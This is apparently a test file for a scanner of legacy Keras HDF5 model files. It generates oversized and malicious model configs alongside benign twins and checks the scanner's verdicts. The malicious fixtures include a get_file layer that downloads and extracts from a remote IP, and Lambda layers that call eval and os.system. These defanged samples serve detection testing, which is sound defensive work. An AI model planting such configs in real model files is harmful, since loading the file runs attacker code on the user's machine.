import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { scan } from '../../src/index.js';
import { HDF5_MAX_CONFIG_CHARS } from '../../src/formats/keras-h5.js';
import { manifestTests } from './manifest-cases.js';

// Legacy HDF5 Keras models and plain HDF5 files: every keras/*.h5 fixture.
manifestTests('keras/', undefined, /^(?!.*\.h5$)/);

test('a model_config attribute declared beyond the cap is judged from its metadata, never read', async () => {
  // Generated here rather than committed: it is ~64 MB. h5py (Debian python3-h5py) writes it.
  const dir = mkdtempSync(join(tmpdir(), 'mg-h5big-'));
  try {
    const file = join(dir, 'big_config.h5');
    execFileSync('/usr/bin/python3', ['-c', [
      'import h5py, json, numpy as np, sys',
      `pad = 'x' * (${HDF5_MAX_CONFIG_CHARS} + 1024)`,
      "s = json.dumps({'class_name': 'Sequential', 'config': {'layers': [], 'pad': pad}}).encode()",
      "f = h5py.File(sys.argv[1], 'w', libver='latest')",
      "f.attrs.create('model_config', np.array(s, dtype='S%d' % len(s)))",
      "f.attrs['keras_version'] = '2.13.1'",
      'f.close()',
    ].join('\n'), file]);
    const f = (await scan(file)).files[0]!;
    assert.is(f.verdict, 'suspicious');
    const finding = f.findings.find((x) => x.rule === 'keras/config-too-large');
    assert.ok(finding, JSON.stringify(f.findings));
    assert.match(finding!.message, /declares \d+ bytes/, 'decided from the declared size, before reading');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

/**
 * Writes legacy HDF5 models with h5py exactly as tf.keras 2 / Keras 3 `legacy_h5_format` write them:
 * `model_config` and `training_config` as UTF-8 JSON bytes (HDF5 fixed-length strings), `keras_version`
 * and `backend` as bytes, and a `model_weights` group.
 */
function writeKerasH5(dir: string, models: Record<string, { model: unknown; training?: unknown }>): void {
  execFileSync('/usr/bin/python3', ['-c', [
    'import h5py, json, os, sys',
    'spec = json.loads(sys.stdin.read())',
    'for name, m in spec.items():',
    "    with h5py.File(os.path.join(sys.argv[1], name), 'w') as f:",
    "        f.attrs['keras_version'] = '2.15.0'.encode('utf8')",
    "        f.attrs['backend'] = 'tensorflow'.encode('utf8')",
    "        f.attrs['model_config'] = json.dumps(m['model']).encode('utf8')",
    "        if m.get('training') is not None: f.attrs['training_config'] = json.dumps(m['training']).encode('utf8')",
    "        g = f.create_group('model_weights')",
    "        g.attrs['layer_names'] = [b'dense']",
    "        g.create_group('dense').create_dataset('dense/kernel:0', data=[[0.0, 1.0]] * 4)",
  ].join('\n'), dir], { input: JSON.stringify(models) });
}

const layer = (className: string, config: Record<string, unknown>, module = 'keras.layers') => ({ module, class_name: className, config, registered_name: null });
const model = (...layers: unknown[]) => ({ class_name: 'Sequential', config: { name: 'sequential', layers: [layer('InputLayer', { batch_input_shape: [null, 4], name: 'in' }), ...layers] } });
const dense = layer('Dense', { name: 'dense', units: 2, activation: 'relu' });
const fn = (module: string, name: string) => ({ module, class_name: 'function', config: name, registered_name: 'function' });
const compile = (loss: unknown) => ({ loss, metrics: ['accuracy'], optimizer_config: { class_name: 'Adam', config: { learning_rate: 0.001 } } });

test('legacy HDF5 models written by h5py: each malicious config with its not-flagged twin', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'mg-kerash5-'));
  try {
    const cases: Array<[string, { model: unknown; training?: unknown }, string, string | undefined]> = [
      ['get-file.h5', { model: model(dense, layer('get_file', { fname: 'x', origin: 'http://192.0.2.1/x.tgz', extract: true }, 'keras.utils')) }, 'malicious', 'keras/dangerous-function'],
      ['get-file-twin.h5', { model: model(dense, layer('Dropout', { name: 'drop', rate: 0.1 })) }, 'safe', undefined],
      ['unsafe-mode.h5', { model: model(layer('Lambda', { name: 'off', function: fn('keras.config', 'enable_unsafe_deserialization') }), layer('Lambda', { name: 'l', function: "lambda x: eval('1')", function_type: 'lambda', module: '__main__' })) }, 'malicious', 'keras/dangerous-function'],
      ['unsafe-mode-twin.h5', { model: model(layer('Lambda', { name: 'ok', function: fn('keras.src.ops.numpy', 'square') }), layer('Lambda', { name: 'l', function: 'add', function_type: 'function', module: 'keras.src.ops.numpy' })) }, 'safe', undefined],
      ['source-lambda.h5', { model: model(layer('Lambda', { name: 'l', function: "lambda x: eval(\"__import__('os').system('echo modelguard-fixture')\")" })) }, 'malicious', 'keras/lambda-layer'],
      ['training-loss.h5', { model: model(dense), training: compile(fn('keras.utils', 'get_file')) }, 'malicious', 'keras/dangerous-function'],
      ['training-loss-twin.h5', { model: model(dense), training: compile(fn('keras.losses', 'mean_squared_error')) }, 'safe', undefined],
      ['foreign.h5', { model: model(layer('MyLayer', { name: 'm' }, 'my_package.layers')) }, 'suspicious', 'keras/foreign-module'],
    ];
    writeKerasH5(dir, Object.fromEntries(cases.map(([n, m]) => [n, m])));
    for (const [name, , verdict, rule] of cases) {
      const f = (await scan(join(dir, name))).files[0]!;
      const rules = f.findings.map((x) => `${x.rule}:${x.verdict}`);
      assert.is(f.format, 'keras-h5', name);
      assert.is(f.verdict, verdict, `${name}: ${rules.join(', ')}`);
      if (rule) assert.ok(f.findings.some((x) => x.rule === rule), `${name}: ${rules.join(', ')}`);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test.run();
